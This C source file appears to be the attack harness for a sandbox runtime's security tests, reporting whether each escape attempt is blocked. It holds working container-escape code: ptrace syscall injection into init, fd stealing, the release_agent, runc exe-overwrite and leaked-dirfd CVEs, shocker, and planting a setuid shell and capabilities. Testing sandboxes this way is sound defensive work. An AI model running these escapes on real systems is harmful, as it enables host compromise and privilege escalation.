/* The attacker: one program with a subcommand per attack, run INSIDE a
 * branch by the tests in tests/security/ (escape_test.cpp etc.; the base is the host's /,
 * so the built binary is visible at its host path). Each attempt prints one
 * line:
 *   BLOCKED <what> <errno name>     the kernel or the sandbox refused it
 *   ESCAPED <what> <detail>         the attack got what it wanted
 *   INFO <what> <detail>            anything else worth seeing in a failure
 * The test asserts on these lines and, independently, on the host (dmesg,
 * canary files, the daemon's binary, the state dir). Plain C and raw
 * syscalls, so nothing here depends on what the sandbox's libc allows. */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <arpa/inet.h>
#if defined(__x86_64__)
#include <asm/ldt.h>
#endif
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <netinet/in.h>
#include <sys/time.h>
#include <sys/un.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

static void blocked(const char* what, int err) { printf("BLOCKED %s %s\n", what, strerrorname_np(err)); }
static void escaped(const char* what, const char* detail) { printf("ESCAPED %s %s\n", what, detail); }

/* rc < 0: blocked with errno; else escaped. */
static void verdict(const char* what, long rc) {
  if (rc < 0) {
    blocked(what, errno);
  } else {
    char d[32];
    snprintf(d, sizeof d, "rc=%ld", rc);
    escaped(what, d);
  }
}

static double now_s(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* ---- escape 1: ptrace the sandbox's init and make it mknod for us ------ */

static int poke_string(pid_t pid, unsigned long addr, const char* s) {
  size_t n = strlen(s) + 1;
  for (size_t off = 0; off < n; off += sizeof(long)) {
    long word = 0;
    memcpy(&word, s + off, n - off < sizeof(long) ? n - off : sizeof(long));
    if (ptrace(PTRACE_POKEDATA, pid, (void*)(addr + off), (void*)word) != 0) return -1;
  }
  return 0;
}

/* Injects one syscall into a seized, stopped tracee at its current syscall
 * instruction (init sits in rt_sigtimedwait: rip - 2 is `syscall`). */
static long inject_syscall(pid_t pid, const struct user_regs_struct* saved, long nr, long a, long b, long c,
                           long d) {
  struct user_regs_struct r = *saved;
  r.rax = (unsigned long)nr;
  r.orig_rax = (unsigned long)-1; /* no syscall-restart fixups on resume */
  r.rdi = (unsigned long)a;
  r.rsi = (unsigned long)b;
  r.rdx = (unsigned long)c;
  r.r10 = (unsigned long)d;
  r.rip = saved->rip - 2;
  if (ptrace(PTRACE_SETREGS, pid, 0, &r) != 0) return -1000;
  if (ptrace(PTRACE_SINGLESTEP, pid, 0, 0) != 0) return -1001;
  int st;
  if (waitpid(pid, &st, __WALL) != pid) return -1002;
  if (ptrace(PTRACE_GETREGS, pid, 0, &r) != 0) return -1003;
  return (long)r.rax;
}

static int cmd_ptrace_init(const char* node) {
  pid_t pid = 1;
  if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0) {
    blocked("ptrace-seize-init", errno);
  } else {
    escaped("ptrace-seize-init", "attached");
    if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0) {
      int st;
      waitpid(pid, &st, __WALL);
      struct user_regs_struct saved;
      if (ptrace(PTRACE_GETREGS, pid, 0, &saved) == 0) {
        unsigned long addr = (saved.rsp - 4096) & ~15UL;
        if (poke_string(pid, addr, node) == 0) {
          long rc = inject_syscall(pid, &saved, SYS_mknodat, AT_FDCWD, (long)addr, S_IFCHR | 0666,
                                   (long)makedev(1, 11));
          printf("INFO injected-mknod rc=%ld\n", rc);
          if (rc == 0) escaped("init-mknod", node);
          else printf("BLOCKED init-mknod %s\n", strerrorname_np((int)-rc) ? strerrorname_np((int)-rc) : "?");
        }
        ptrace(PTRACE_SETREGS, pid, 0, &saved);
      }
      ptrace(PTRACE_DETACH, pid, 0, 0);
    }
  }
  /* Whatever node exists now (made by init or by any other means): use it. */
  int fd = open(node, O_WRONLY | O_CLOEXEC);
  if (fd < 0) {
    blocked("open-injected-node", errno);
  } else {
    char msg[128];
    int n = snprintf(msg, sizeof msg, "<0>%s\n", getenv("ATTACK_MARKER") ? getenv("ATTACK_MARKER") : "specula-attack");
    long w = write(fd, msg, (size_t)n);
    verdict("write-injected-node", w);
    close(fd);
  }
  return 0;
}

/* ---- escapes 2 and 3: fds and /proc/<pid>/exe of processes entering --- */

struct target {
  dev_t exe_dev;
  ino_t exe_ino;
};

static void try_steal(pid_t p, const struct target* t, long* stolen, long* exes) {
  int pidfd = (int)syscall(SYS_pidfd_open, p, 0);
  if (pidfd >= 0) {
    for (int fd = 3; fd < 64; ++fd) {
      int nfd = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
      if (nfd < 0) continue;
      char path[64], link[512];
      snprintf(path, sizeof path, "/proc/self/fd/%d", nfd);
      ssize_t n = readlink(path, link, sizeof link - 1);
      link[n > 0 ? n : 0] = 0;
      struct stat st;
      fstat(nfd, &st);
      printf("STOLEN pid=%d fd=%d link=%s mode=%o\n", p, fd, link, st.st_mode);
      ++*stolen;
      close(nfd);
    }
    close(pidfd);
  }
  char exe[64];
  snprintf(exe, sizeof exe, "/proc/%d/exe", p);
  int efd = open(exe, O_RDONLY | O_CLOEXEC);
  if (efd >= 0) {
    struct stat st;
    if (fstat(efd, &st) == 0 && st.st_dev == t->exe_dev && st.st_ino == t->exe_ino) {
      printf("EXE pid=%d is the runtime's binary\n", p);
      ++*exes;
    }
    close(efd);
  }
}

/* Spins on the pids about to be born (pids in a pid namespace are handed
 * out in order) and on every pid in /proc, trying to grab fds and the exe
 * of each process before it has exec'd. */
static volatile sig_atomic_t steal_stop;
static void on_term(int sig) {
  (void)sig;
  steal_stop = 1;
}

static int cmd_steal(const char* seconds, const char* runtime_binary) {
  struct target t = {0, 0};
  /* SIGTERM ends the race and still prints the summary line. */
  signal(SIGTERM, on_term);
  struct stat rb;
  /* The runtime's binary as the sandbox sees it (same file on the host's
   * root via the overlay's lower layer: same st_ino, maybe another st_dev),
   * so compare the inode of the path given and count matches by inode. */
  if (runtime_binary && stat(runtime_binary, &rb) == 0) {
    t.exe_ino = rb.st_ino;
    t.exe_dev = rb.st_dev;
  }
  double end = now_s() + atof(seconds);
  long stolen = 0, exes = 0, loops = 0;
  pid_t max_seen = getpid();
  while (!steal_stop && now_s() < end) {
    ++loops;
    for (pid_t p = max_seen + 1; p <= max_seen + 6; ++p) {
      if (kill(p, 0) == 0 || errno == EPERM) {
        try_steal(p, &t, &stolen, &exes);
        if (p > max_seen) max_seen = p;
      }
    }
    if (loops % 64 == 0) {
      DIR* d = opendir("/proc");
      if (d) {
        struct dirent* e;
        while ((e = readdir(d)) != NULL) {
          pid_t p = (pid_t)atoi(e->d_name);
          if (p <= 1 || p == getpid()) continue;
          if (p > max_seen) max_seen = p;
          try_steal(p, &t, &stolen, &exes);
        }
        closedir(d);
      }
    }
  }
  printf("INFO steal loops=%ld stolen=%ld exes=%ld max_pid=%d\n", loops, stolen, exes, max_seen);
  fflush(stdout);
  return 0;
}

/* ---- devices ------------------------------------------------------------ */

static int cmd_mknod(const char* dir) {
  char c[256], b[256];
  snprintf(c, sizeof c, "%s/attack-kmsg", dir);
  snprintf(b, sizeof b, "%s/attack-loop0", dir);
  verdict("mknod-char-kmsg", mknod(c, S_IFCHR | 0666, makedev(1, 11)));
  verdict("mknod-block-loop0", mknod(b, S_IFBLK | 0666, makedev(7, 0)));
  verdict("mknodat-char-mem", syscall(SYS_mknodat, AT_FDCWD, c, S_IFCHR | 0666, makedev(1, 1)));
  return 0;
}

/* Opens a device node that exists by any means (made on the host, left in
 * a layer, bind-mounted) and uses it. */
static int cmd_open_dev(const char* path) {
  int fd = open(path, O_RDWR | O_CLOEXEC | O_NONBLOCK);
  if (fd < 0) {
    blocked("open-device", errno);
    return 0;
  }
  char buf[64];
  long r = read(fd, buf, sizeof buf);
  const char* m = getenv("ATTACK_MARKER");
  char msg[128];
  int n = snprintf(msg, sizeof msg, "<0>%s\n", m ? m : "specula-attack");
  long w = write(fd, msg, (size_t)n);
  if (r < 0 && w < 0) blocked("use-device", errno);
  else escaped("use-device", path);
  close(fd);
  return 0;
}

/* ---- mounts, namespaces, cgroups --------------------------------------- */

static int cmd_mount(void) {
  mkdir("/tmp/attack-mnt", 0700);
  verdict("mount-tmpfs", mount("none", "/tmp/attack-mnt", "tmpfs", 0, NULL));
  verdict("mount-proc", mount("proc", "/tmp/attack-mnt", "proc", 0, NULL));
  verdict("mount-cgroup2", mount("none", "/tmp/attack-mnt", "cgroup2", 0, NULL));
  verdict("mount-bind-root", mount("/", "/tmp/attack-mnt", NULL, MS_BIND | MS_REC, NULL));
  verdict("remount-root-rw", mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL));
  verdict("umount-proc", umount2("/proc", MNT_DETACH));
  verdict("fsopen", syscall(SYS_fsopen, "tmpfs", 0));
  verdict("open_tree", syscall(SYS_open_tree, AT_FDCWD, "/", 1 /* OPEN_TREE_CLONE */));
  verdict("pivot_root", syscall(SYS_pivot_root, "/tmp", "/tmp/attack-mnt"));
  return 0;
}

static int cmd_unshare(void) {
  verdict("unshare-user", unshare(CLONE_NEWUSER));
  verdict("unshare-mount", unshare(CLONE_NEWNS));
  verdict("unshare-user-mount", unshare(CLONE_NEWUSER | CLONE_NEWNS));
  long pid = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
  if (pid == 0) _exit(0);
  if (pid > 0) waitpid((pid_t)pid, NULL, 0);
  verdict("clone-newuser", pid);
  int fd = open("/proc/1/ns/mnt", O_RDONLY | O_CLOEXEC);
  if (fd >= 0) {
    verdict("setns-init-mnt", setns(fd, CLONE_NEWNS));
    close(fd);
  }
  return 0;
}

/* CVE-2022-0492: a v1 cgroup's release_agent runs as host root. */
static int cmd_release_agent(void) {
  mkdir("/tmp/attack-cg", 0700);
  long rc = mount("cgroup", "/tmp/attack-cg", "cgroup", 0, "memory");
  if (rc != 0 && unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) == 0) {
    rc = mount("cgroup", "/tmp/attack-cg", "cgroup", 0, "memory");
  }
  if (rc != 0) {
    blocked("mount-cgroup-v1", errno);
  } else {
    int fd = open("/tmp/attack-cg/release_agent", O_WRONLY);
    long w = fd >= 0 ? write(fd, "/tmp/x", 6) : -1;
    verdict("write-release_agent", w);
  }
  /* The host's cgroupfs as the sandbox might see it. */
  int fd = open("/sys/fs/cgroup/memory/release_agent", O_WRONLY);
  verdict("open-host-release_agent", fd);
  return 0;
}

/* CVE-2017-5226 class: push input into the controlling terminal. */
static int cmd_tiocsti(void) {
  char c = 'x';
  int fd = open("/dev/tty", O_RDWR | O_NOCTTY);
  if (fd >= 0) verdict("tiocsti-tty", ioctl(fd, TIOCSTI, &c));
  else blocked("open-dev-tty", errno);
  int m = posix_openpt(O_RDWR | O_NOCTTY);
  if (m >= 0 && grantpt(m) == 0 && unlockpt(m) == 0) {
    int s = open(ptsname(m), O_RDWR | O_NOCTTY);
    if (s >= 0) verdict("tiocsti-pts", ioctl(s, TIOCSTI, &c));
    verdict("tioclinux-pts", ioctl(s >= 0 ? s : m, TIOCLINUX, &c));
  }
  return 0;
}

static int cmd_proc_mem(void) {
  int fd = open("/proc/1/mem", O_RDWR | O_CLOEXEC);
  verdict("open-init-mem", fd);
  char buf[8] = {0};
  struct iovec local = {buf, sizeof buf}, remote = {(void*)0x400000, sizeof buf};
  verdict("process_vm_readv-init", syscall(SYS_process_vm_readv, 1, &local, 1, &remote, 1, 0));
  verdict("process_vm_writev-init", syscall(SYS_process_vm_writev, 1, &local, 1, &remote, 1, 0));
  int env = open("/proc/1/environ", O_RDONLY | O_CLOEXEC);
  verdict("open-init-environ", env);
  int pfd = (int)syscall(SYS_pidfd_open, 1, 0);
  if (pfd >= 0) verdict("pidfd_getfd-init", syscall(SYS_pidfd_getfd, pfd, 0, 0));
  return 0;
}

/* The classic double-chroot escape, then look for what must be invisible. */
static int cmd_chroot_escape(int argc, char** argv) {
  mkdir("/tmp/attack-jail", 0700);
  int keep = open("/", O_RDONLY | O_DIRECTORY);
  if (chroot("/tmp/attack-jail") != 0) {
    blocked("chroot", errno);
  } else {
    if (fchdir(keep) == 0) {
      for (int i = 0; i < 64; ++i) (void)chdir("..");
      (void)chroot(".");
    }
  }
  for (int i = 0; i < argc; ++i) {
    struct stat st;
    if (stat(argv[i], &st) == 0) escaped("sees", argv[i]);
    else blocked(argv[i], errno);
  }
  return 0;
}

static int cmd_open_by_handle(void) {
  struct {
    unsigned int handle_bytes;
    int handle_type;
    unsigned char f_handle[8];
  } h = {8, 1, {2, 0, 0, 0, 0, 0, 0, 0}}; /* shocker: inode 2, the fs root */
  verdict("open_by_handle_at", syscall(SYS_open_by_handle_at, AT_FDCWD, &h, O_RDONLY));
  verdict("name_to_handle_at", syscall(SYS_name_to_handle_at, AT_FDCWD, "/", &h, &(int){0}, 0));
  return 0;
}

/* Only the attempts named on the command line (all when none is).
 * Nothing here may harm the host if it got through: a deferred call runs
 * on promote by design, so the clock is set to what it is, swapon names no
 * file and the module is one that does not exist. */
static char** kernel_only;
static int kernel_only_n;
static int kernel_wanted(const char* what) {
  if (kernel_only_n == 0) return 1;
  for (int i = 0; i < kernel_only_n; ++i) {
    if (!strcmp(kernel_only[i], what)) return 1;
  }
  return 0;
}
#define kverdict(what, call)                    \
  do {                                          \
    if (kernel_wanted(what)) verdict(what, call); \
  } while (0)

static int cmd_kernel(int argc, char** argv) {
  kernel_only = argv;
  kernel_only_n = argc;
  kverdict("keyctl", syscall(SYS_keyctl, 0 /* GET_KEYRING_ID */, -3 /* session */, 0, 0, 0));
  kverdict("bpf", syscall(SYS_bpf, 0, NULL, 0));
  kverdict("perf_event_open", syscall(SYS_perf_event_open, NULL, 0, -1, -1, 0));
  kverdict("io_uring_setup", syscall(SYS_io_uring_setup, 1, NULL));
  kverdict("userfaultfd", syscall(SYS_userfaultfd, O_CLOEXEC));
  kverdict("kexec_load", syscall(SYS_kexec_load, 0, 0, NULL, 0));
  kverdict("init_module", syscall(SYS_init_module, NULL, 0, ""));
  kverdict("finit_module", syscall(SYS_finit_module, -1, "", 0));
  kverdict("delete_module", syscall(SYS_delete_module, "specula_no_such_module", 0));
  kverdict("reboot", syscall(SYS_reboot, 0xfee1dead, 672274793, 0x4321fedc /* CAD_OFF */, NULL));
  kverdict("swapon", syscall(SYS_swapon, "/tmp/none", 0));
  struct timespec ts;
  clock_gettime(CLOCK_REALTIME, &ts);
  kverdict("clock_settime", syscall(SYS_clock_settime, CLOCK_REALTIME, &ts));
  kverdict("acct", syscall(SYS_acct, NULL));
  kverdict("syslog-clear", syscall(SYS_syslog, 5 /* CLEAR */, NULL, 0));
  kverdict("iopl", syscall(SYS_iopl, 3));
  kverdict("ioperm", syscall(SYS_ioperm, 0x80, 1, 1));
#if defined(__x86_64__)
  /* An LDT entry of our own: the surface of CVE-2017-17053 and friends. */
  struct user_desc ldt = {.entry_number = 0, .seg_32bit = 1, .seg_not_present = 1};
  kverdict("modify_ldt", syscall(SYS_modify_ldt, 1, &ldt, sizeof ldt));
#endif
  /* Execution domains that weaken the process's own hardening (Docker's
   * default profile allows only 0, 8, 0x20000, 0x20008 and the query):
   * executable data, no ASLR, a mapped page 0; with bit 31 set too, and
   * above 32 bits (the kernel takes the low 32). */
  kverdict("personality-read-implies-exec", syscall(SYS_personality, 0x0400000UL /* READ_IMPLIES_EXEC */));
  kverdict("personality-no-randomize", syscall(SYS_personality, 0x0040000UL /* ADDR_NO_RANDOMIZE */));
  kverdict("personality-page-zero", syscall(SYS_personality, 0x0100000UL /* MMAP_PAGE_ZERO */));
  kverdict("personality-bit31", syscall(SYS_personality, 0x80400000UL));
  kverdict("personality-high", syscall(SYS_personality, (1UL << 32) | 0x0040000UL));
  /* NUMA placement of this or another process's pages: CAP_SYS_NICE calls
   * in Docker's profile. */
  kverdict("set_mempolicy", syscall(SYS_set_mempolicy, 0 /* MPOL_DEFAULT */, NULL, 0));
  kverdict("mbind", syscall(SYS_mbind, NULL, 0, 0, NULL, 0, 0));
  kverdict("move_pages", syscall(SYS_move_pages, 0, 0, NULL, NULL, NULL, 0));
  kverdict("migrate_pages", syscall(SYS_migrate_pages, 0, 1, NULL, NULL));
#ifdef SYS_memfd_secret
  /* Memory that ptrace and CRIU cannot read: a process holding it cannot be
   * checkpointed. */
  kverdict("memfd_secret", syscall(SYS_memfd_secret, 0));
#endif
  return 0;
}

/* Execution domains an agent's tools do use: the query (gdb, setarch),
 * PER_LINUX32 (setarch i686), back to PER_LINUX. "ALLOWED <what>" or
 * "REFUSED <what> <errno>". */
static int cmd_persona_allowed(void) {
  struct {
    const char* what;
    unsigned long value;
  } calls[] = {{"query", 0xffffffffUL}, {"linux32", 0x0008UL}, {"uname26", 0x20000UL}, {"linux", 0x0UL}};
  for (size_t i = 0; i < sizeof calls / sizeof calls[0]; ++i) {
    long rc = syscall(SYS_personality, calls[i].value);
    if (rc < 0) printf("REFUSED %s %s\n", calls[i].what, strerrorname_np(errno));
    else printf("ALLOWED %s\n", calls[i].what);
  }
  return 0;
}

/* Unix socket of a host daemon at a path the overlay shows. */
static int cmd_connect(const char* path) {
  int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  struct sockaddr_un a = {.sun_family = AF_UNIX};
  strncpy(a.sun_path, path, sizeof a.sun_path - 1);
  long rc = connect(s, (struct sockaddr*)&a, sizeof a);
  if (rc == 0) {
    const char* req = "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"daemon.ping\"}\n";
    (void)!write(s, req, strlen(req));
    char buf[256] = {0};
    long n = read(s, buf, sizeof buf - 1);
    printf("INFO connect-reply %ld %s\n", n, buf);
  }
  verdict("connect-daemon-socket", rc);
  return 0;
}

/* Files a promote must not carry to the host as they are. */
static int cmd_plant(const char* dir) {
  char p[512];
  snprintf(p, sizeof p, "%s/suid-sh", dir);
  int in = open("/bin/sh", O_RDONLY), out = open(p, O_WRONLY | O_CREAT | O_TRUNC, 0755);
  char buf[65536];
  ssize_t n;
  while (in >= 0 && out >= 0 && (n = read(in, buf, sizeof buf)) > 0) (void)!write(out, buf, (size_t)n);
  close(in);
  close(out);
  verdict("chmod-suid", chmod(p, 04755));
  snprintf(p, sizeof p, "%s/fcap-file", dir);
  close(open(p, O_WRONLY | O_CREAT, 0755));
  /* vfs_cap_data v2: CAP_SETUID (7) permitted+effective */
  struct {
    uint32_t magic_etc;
    struct {
      uint32_t permitted, inheritable;
    } data[2];
  } cap = {0x02000000 | 1 /* VFS_CAP_REVISION_2 | EFFECTIVE */, {{1u << 7, 0}, {0, 0}}};
  verdict("set-file-capability", setxattr(p, "security.capability", &cap, sizeof cap, 0));
  verdict("set-trusted-xattr", setxattr(p, "trusted.overlay.opaque", "y", 1, 0));
  verdict("set-user-xattr", setxattr(p, "user.note", "hi", 2, 0));
  snprintf(p, sizeof p, "%s/fifo", dir);
  verdict("mkfifo", mknod(p, S_IFIFO | 0600, 0));
  snprintf(p, sizeof p, "%s/sock", dir);
  int s = socket(AF_UNIX, SOCK_STREAM, 0);
  struct sockaddr_un a = {.sun_family = AF_UNIX};
  strncpy(a.sun_path, p, sizeof a.sun_path - 1);
  verdict("bind-unix-socket", bind(s, (struct sockaddr*)&a, sizeof a));
  return 0;
}

/* ---- /proc/<pid>/exe (CVE-2019-5736) ------------------------------------ */

/* runc's exploit: hold the exe of a runtime process by O_PATH and reopen it
 * for writing through /proc/self/fd once it no longer runs (ETXTBSY). Here
 * every process the sandbox shows is tried, directly and by the reopen. */
static int cmd_exe_overwrite(void) {
  DIR* d = opendir("/proc");
  struct dirent* e;
  while (d && (e = readdir(d)) != NULL) {
    pid_t p = (pid_t)atoi(e->d_name);
    if (p <= 0 || p == getpid()) continue;
    char exe[64], link[512], what[96];
    snprintf(exe, sizeof exe, "/proc/%d/exe", p);
    ssize_t n = readlink(exe, link, sizeof link - 1);
    link[n > 0 ? n : 0] = 0;
    printf("INFO exe pid=%d %s\n", p, link);
    snprintf(what, sizeof what, "open-exe-wronly-pid%d", p);
    int w = open(exe, O_WRONLY | O_CLOEXEC);
    verdict(what, w);
    if (w >= 0) close(w);
    int o = open(exe, O_PATH | O_CLOEXEC);
    if (o < 0) continue;
    char re[64];
    snprintf(re, sizeof re, "/proc/self/fd/%d", o);
    snprintf(what, sizeof what, "reopen-exe-wronly-pid%d", p);
    w = open(re, O_WRONLY | O_CLOEXEC);
    verdict(what, w);
    if (w >= 0) close(w);
    close(o);
  }
  if (d) closedir(d);
  /* Our own exe, after the process that ran it is gone (the race runc lost). */
  int o = open("/proc/self/exe", O_PATH | O_CLOEXEC);
  pid_t c = fork();
  if (c == 0) _exit(0);
  waitpid(c, NULL, 0);
  char re[64];
  snprintf(re, sizeof re, "/proc/self/fd/%d", o);
  int w = open(re, O_WRONLY | O_CLOEXEC);
  printf("INFO reopen-own-exe-wronly %s\n", w >= 0 ? "opened (copy-up of the overlay)" : strerrorname_np(errno));
  if (w >= 0) close(w);
  return 0;
}

/* ---- fds and directories every visible process holds (CVE-2024-21626) --- */

static int cmd_fds(void) {
  DIR* d = opendir("/proc");
  struct dirent* e;
  long seen = 0;
  while (d && (e = readdir(d)) != NULL) {
    pid_t p = (pid_t)atoi(e->d_name);
    if (p <= 0) continue;
    char path[96], link[512];
    const char* fixed[] = {"cwd", "root", "exe"};
    for (int i = 0; i < 3; ++i) {
      snprintf(path, sizeof path, "/proc/%d/%s", p, fixed[i]);
      ssize_t n = readlink(path, link, sizeof link - 1);
      if (n < 0) continue;
      link[n] = 0;
      printf("FD pid=%d %s link=%s\n", p, fixed[i], link);
    }
    snprintf(path, sizeof path, "/proc/%d/fd", p);
    DIR* fd = opendir(path);
    struct dirent* f;
    while (fd && (f = readdir(fd)) != NULL) {
      if (f->d_name[0] == '.') continue;
      char one[300];
      snprintf(one, sizeof one, "/proc/%d/fd/%s", p, f->d_name);
      ssize_t n = readlink(one, link, sizeof link - 1);
      if (n < 0) continue;
      link[n] = 0;
      printf("FD pid=%d fd=%s link=%s\n", p, f->d_name, link);
      ++seen;
      /* runc's leak was a directory fd of the host: walk up from it. */
      int dfd = open(one, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
      if (dfd >= 0) {
        int up = openat(dfd, "../../../../../../../..", O_PATH | O_DIRECTORY | O_CLOEXEC);
        struct stat a, b;
        if (up >= 0 && fstat(up, &a) == 0 && stat("/", &b) == 0 && (a.st_dev != b.st_dev || a.st_ino != b.st_ino)) {
          printf("ESCAPED dirfd-walk pid=%d fd=%s reaches a root that is not the sandbox's\n", p, f->d_name);
        }
        if (up >= 0) close(up);
        close(dfd);
      }
    }
    if (fd) closedir(fd);
  }
  if (d) closedir(d);
  printf("BLOCKED fd-scan done fds=%ld\n", seen);
  return 0;
}

/* ---- files: read or write something the sandbox must not reach --------- */

/* BLOCKED when the open fails or shows nothing (a mask: /dev/null or an
 * empty read-only tmpfs). */
static int cmd_read(int argc, char** argv) {
  for (int i = 0; i < argc; ++i) {
    struct stat st;
    if (stat(argv[i], &st) != 0) {
      blocked(argv[i], errno);
      continue;
    }
    if (S_ISDIR(st.st_mode)) {
      DIR* d = opendir(argv[i]);
      if (!d) {
        blocked(argv[i], errno);
        continue;
      }
      long n = 0;
      struct dirent* e;
      while ((e = readdir(d)) != NULL) n += e->d_name[0] != '.';
      closedir(d);
      if (n == 0) printf("BLOCKED %s empty-dir\n", argv[i]);
      else {
        char det[32];
        snprintf(det, sizeof det, "entries=%ld", n);
        escaped(argv[i], det);
      }
      continue;
    }
    int fd = open(argv[i], O_RDONLY | O_CLOEXEC | O_NONBLOCK);
    if (fd < 0) {
      blocked(argv[i], errno);
      continue;
    }
    char buf[256];
    long r = read(fd, buf, sizeof buf);
    close(fd);
    if (r < 0) blocked(argv[i], errno);
    else if (r == 0) printf("BLOCKED %s empty\n", argv[i]);
    else escaped(argv[i], "read");
  }
  return 0;
}

static int cmd_write(const char* path, const char* data) {
  int fd = open(path, O_WRONLY | O_CLOEXEC | O_NONBLOCK);
  if (fd < 0) {
    blocked(path, errno);
    return 0;
  }
  long w = write(fd, data, strlen(data));
  close(fd);
  verdict(path, w);
  return 0;
}

/* Every process's root as /proc shows it: nothing outside the sandbox. */
static int cmd_proc_root(int argc, char** argv) {
  DIR* d = opendir("/proc");
  struct dirent* e;
  while (d && (e = readdir(d)) != NULL) {
    pid_t p = (pid_t)atoi(e->d_name);
    if (p <= 0) continue;
    for (int i = 0; i < argc; ++i) {
      char path[1024], what[1100];
      snprintf(path, sizeof path, "/proc/%d/root%s", p, argv[i]);
      snprintf(what, sizeof what, "proc-root pid=%d %s", p, argv[i]);
      struct stat st;
      if (stat(path, &st) == 0) escaped(what, "exists");
      else blocked(what, errno);
    }
  }
  if (d) closedir(d);
  return 0;
}

/* ---- network ------------------------------------------------------------ */

static int cmd_connect_tcp(const char* host, const char* port) {
  int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (s < 0) {
    blocked("socket-inet", errno);
    return 0;
  }
  struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(port))};
  inet_pton(AF_INET, host, &a.sin_addr);
  struct timeval tv = {3, 0};
  setsockopt(s, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
  verdict("connect-tcp", connect(s, (struct sockaddr*)&a, sizeof a));
  close(s);
  return 0;
}

static int cmd_connect_abstract(const char* name) {
  int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  struct sockaddr_un a = {.sun_family = AF_UNIX};
  size_t n = strlen(name);
  if (n > sizeof a.sun_path - 2) n = sizeof a.sun_path - 2;
  memcpy(a.sun_path + 1, name, n);
  verdict("connect-abstract", connect(s, (struct sockaddr*)&a, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + n)));
  close(s);
  return 0;
}

int main(int argc, char** argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc < 2) {
    fprintf(stderr, "usage: attack <subcommand> [args]\n");
    return 2;
  }
  const char* c = argv[1];
  if (!strcmp(c, "ptrace-init") && argc > 2) return cmd_ptrace_init(argv[2]);
  if (!strcmp(c, "steal") && argc > 2) return cmd_steal(argv[2], argc > 3 ? argv[3] : NULL);
  if (!strcmp(c, "mknod") && argc > 2) return cmd_mknod(argv[2]);
  if (!strcmp(c, "open-dev") && argc > 2) return cmd_open_dev(argv[2]);
  if (!strcmp(c, "mount")) return cmd_mount();
  if (!strcmp(c, "unshare")) return cmd_unshare();
  if (!strcmp(c, "release-agent")) return cmd_release_agent();
  if (!strcmp(c, "tiocsti")) return cmd_tiocsti();
  if (!strcmp(c, "proc-mem")) return cmd_proc_mem();
  if (!strcmp(c, "chroot-escape")) return cmd_chroot_escape(argc - 2, argv + 2);
  if (!strcmp(c, "open-by-handle")) return cmd_open_by_handle();
  if (!strcmp(c, "kernel")) return cmd_kernel(argc - 2, argv + 2);
  if (!strcmp(c, "persona-allowed")) return cmd_persona_allowed();
  if (!strcmp(c, "connect") && argc > 2) return cmd_connect(argv[2]);
  if (!strcmp(c, "plant") && argc > 2) return cmd_plant(argv[2]);
  if (!strcmp(c, "exe-overwrite")) return cmd_exe_overwrite();
  if (!strcmp(c, "fds")) return cmd_fds();
  if (!strcmp(c, "read")) return cmd_read(argc - 2, argv + 2);
  if (!strcmp(c, "write") && argc > 3) return cmd_write(argv[2], argv[3]);
  if (!strcmp(c, "proc-root")) return cmd_proc_root(argc - 2, argv + 2);
  if (!strcmp(c, "connect-tcp") && argc > 3) return cmd_connect_tcp(argv[2], argv[3]);
  if (!strcmp(c, "connect-abstract") && argc > 2) return cmd_connect_abstract(argv[2]);
  fprintf(stderr, "attack: unknown subcommand %s\n", c);
  return 2;
}
